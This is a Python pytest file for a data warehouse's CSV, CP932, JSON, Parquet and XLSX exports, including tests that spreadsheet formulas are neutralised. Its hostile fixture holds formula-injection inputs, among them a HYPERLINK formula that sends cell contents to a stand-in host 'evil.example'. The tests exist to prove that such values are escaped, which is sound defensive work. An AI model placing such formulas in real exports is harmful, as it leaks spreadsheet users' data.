"""Exports: Parquet, CSV (UTF-8 BOM / CP932), JSON, XLSX — with spreadsheet formulas neutralised."""

from __future__ import annotations

import csv
import io
import json
import logging
from datetime import date

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from sousei.warehouse import Warehouse, WarehouseError
from tests.warehouse.conftest import population, temp_files

HOSTILE = pa.table(
    {
        "名前": [
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "@SUM(A1:A2)",
            "+1",
            "-x",
            "\tcmd",
            "普通の文字",
            None,
        ],
        "値": [-5, 3, 0, -1, 2, 7, None],
        "率": [-0.5, 1.25, None, 0.0, -2.0, 3.0, 1.0],
    }
)


@pytest.fixture
def hostile(wh: Warehouse) -> Warehouse:
    wh.load("h", HOSTILE)
    return wh


def read_csv(data: bytes, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline="")))


def test_csv_has_a_bom_and_crlf(loaded: Warehouse, tmp_path):
    data = loaded.export("pop", None, "csv", tmp_path / "out.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    rows = read_csv(data, "utf-8-sig")
    assert rows[0] == ["年度", "地域コード", "人口", "増減", "率"]
    assert rows[1] == ["H30", "032093", "121583", "-1208", "1.5"]
    assert rows[4] == ["R3", "", "117000", "", "2"]


def test_csv_neutralises_formulas_but_not_numbers(hostile: Warehouse, tmp_path):
    rows = read_csv(hostile.export("h", None, "csv", tmp_path / "h.csv").read_bytes(), "utf-8-sig")
    cells = [r[0] for r in rows[1:]]
    assert cells == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'@SUM(A1:A2)",
        "'+1",
        "'-x",
        "'\tcmd",
        "普通の文字",
        "",
    ]
    assert [r[1] for r in rows[1:3]] == ["-5", "3"]
    assert rows[1][2] == "-0.5"


def test_csv_headers_are_neutralised_too(wh: Warehouse, tmp_path):
    wh.load("hdr", pa.table({"=cmd()": ["a"], "ok": [1]}))
    rows = read_csv(wh.export("hdr", None, "csv", tmp_path / "x.csv").read_bytes(), "utf-8-sig")
    assert rows[0] == ["'=cmd()", "ok"]


def test_cp932_csv_decodes_as_cp932(hostile: Warehouse, tmp_path):
    data = hostile.export("h", None, "csv-cp932", tmp_path / "h.csv").read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    rows = read_csv(data, "cp932")
    assert rows[0] == ["名前", "値", "率"]
    assert rows[6][0] == "普通の文字"
    assert rows[2][0] == "'@SUM(A1:A2)"
    assert rows[1][1] == "-5"


def test_cp932_maps_equivalent_characters(wh: Warehouse, tmp_path):
    wh.load("age", pa.table({"年齢": ["0〜4歳", "−3", "①髙﨑"]}))
    rows = read_csv(wh.export("age", None, "csv-cp932", tmp_path / "a.csv").read_bytes(), "cp932")
    assert [r[0] for r in rows[1:]] == ["0～4歳", "－3", "①髙﨑"]


def test_cp932_refuses_characters_it_cannot_hold_naming_the_cell(wh: Warehouse, tmp_path):
    wh.load("emoji", pa.table({"地名": ["一関", "🍎りんご"], "n": [1, 2]}))
    dest = tmp_path / "e.csv"
    with pytest.raises(WarehouseError) as err:
        wh.export("emoji", None, "csv-cp932", dest)
    exc = err.value
    assert exc.code == "cp932_unencodable"
    assert "2 行目" in exc.message_ja and "地名" in exc.message_ja
    assert "row 2" in exc.message_en and "U+1F34E" in exc.message_en
    assert exc.details == [{"row": 2, "column": "地名", "character": "U+1F34E"}]
    assert not dest.exists()
    assert temp_files(tmp_path) == []


def test_cp932_replace_mode_writes_question_marks(wh: Warehouse, tmp_path, caplog):
    wh.load("emoji", pa.table({"地名": ["一関", "🍎りんご"]}))
    with caplog.at_level(logging.WARNING, logger="sousei.warehouse.export"):
        out = wh.export("emoji", None, "csv-cp932", tmp_path / "e.csv", cp932_errors="replace")
    assert read_csv(out.read_bytes(), "cp932")[2] == ["?りんご"]
    assert "replaced 1 character" in caplog.text


def test_json_is_an_array_of_objects(loaded: Warehouse, tmp_path):
    records = json.loads(loaded.export("pop", None, "json", tmp_path / "p.json").read_text())
    assert records == population().to_pylist()


def test_json_handles_dates_decimals_and_nan(wh: Warehouse, tmp_path):
    from decimal import Decimal

    table = pa.table(
        {
            "d": [date(2020, 4, 1)],
            "m": pa.array([Decimal("1.50")]),
            "f": [float("nan")],
            "i": pa.array([Decimal("12")], pa.decimal128(5, 0)),
        }
    )
    wh.load("j", table)
    records = json.loads(wh.export("j", None, "json", tmp_path / "j.json").read_text())
    assert records == [{"d": "2020-04-01", "m": 1.5, "f": None, "i": 12}]


def test_parquet_is_the_stored_file(loaded: Warehouse, tmp_path):
    out = loaded.export("pop", None, "parquet", tmp_path / "p.parquet")
    assert pq.read_table(out).equals(population())
    assert out.read_bytes() == loaded.current("pop").parquet_path.read_bytes()


def test_xlsx_is_readable_and_safe(hostile: Warehouse, tmp_path):
    out = hostile.export("h", None, "xlsx", tmp_path / "h.xlsx")
    book = openpyxl.load_workbook(out)
    sheet = book["data"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("名前", "値", "率")
    assert rows[1] == ('\'=HYPERLINK("http://evil.example/?"&A1,"click")', -5, -0.5)
    assert rows[2][0] == "'@SUM(A1:A2)"
    assert rows[3][0] == "'+1"
    assert rows[7] == (None, None, 1.0)
    assert isinstance(rows[1][1], int)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_drops_characters_excel_cannot_store(wh: Warehouse, tmp_path):
    wh.load("ctl", pa.table({"s": ["a\x01b", "x" * 40_000], "d": [date(2020, 1, 2), None]}))
    out = wh.export("ctl", None, "xlsx", tmp_path / "c.xlsx")
    rows = list(openpyxl.load_workbook(out)["data"].iter_rows(values_only=True))
    assert rows[1][0] == "ab"
    assert len(rows[2][0]) == 32_767
    assert rows[1][1].date() == date(2020, 1, 2)


def test_older_versions_export_too(loaded: Warehouse, tmp_path):
    loaded.load("pop", population().slice(0, 1))
    old = loaded.export("pop", 1, "parquet", tmp_path / "v1.parquet")
    new = loaded.export("pop", None, "parquet", tmp_path / "v2.parquet")
    assert pq.read_table(old).num_rows == 4
    assert pq.read_table(new).num_rows == 1


def test_unknown_format_and_version(loaded: Warehouse, tmp_path):
    with pytest.raises(WarehouseError) as err:
        loaded.export("pop", None, "sqlite", tmp_path / "x")
    assert err.value.code == "unknown_format"
    with pytest.raises(WarehouseError) as err:
        loaded.export("pop", 5, "csv", tmp_path / "x")
    assert err.value.code == "version_not_found"
    assert list(tmp_path.glob("x*")) == []


def test_nested_and_binary_values_become_text_in_csv(wh: Warehouse, tmp_path):
    table = pa.table(
        {"b": pa.array([b"\xff\x00", None]), "s": pa.array([{"a": "=1"}, None]), "n": [1, 2]}
    )
    wh.load("nested", table)
    rows = read_csv(wh.export("nested", None, "csv", tmp_path / "n.csv").read_bytes(), "utf-8-sig")
    assert rows[1] == ["ff00", '{"a": "=1"}', "1"]
    assert (
        read_csv(wh.export("nested", None, "csv-cp932", tmp_path / "n2.csv").read_bytes(), "cp932")
        == rows
    )
    records = json.loads(wh.export("nested", None, "json", tmp_path / "n.json").read_text())
    assert records[0] == {"b": "/wA=", "s": {"a": "=1"}, "n": 1}
    sheet = openpyxl.load_workbook(wh.export("nested", None, "xlsx", tmp_path / "n.xlsx"))["data"]
    assert next(sheet.iter_rows(min_row=2, values_only=True)) == ("ff00", '{"a": "=1"}', 1)


def test_xlsx_refuses_more_rows_than_excel_holds(loaded: Warehouse, tmp_path, monkeypatch):
    from sousei.warehouse import export

    monkeypatch.setattr(export, "XLSX_MAX_ROWS", 3)
    with pytest.raises(WarehouseError) as err:
        loaded.export("pop", None, "xlsx", tmp_path / "big.xlsx")
    assert err.value.code == "too_many_rows"
    assert list(tmp_path.glob("*big*")) == []
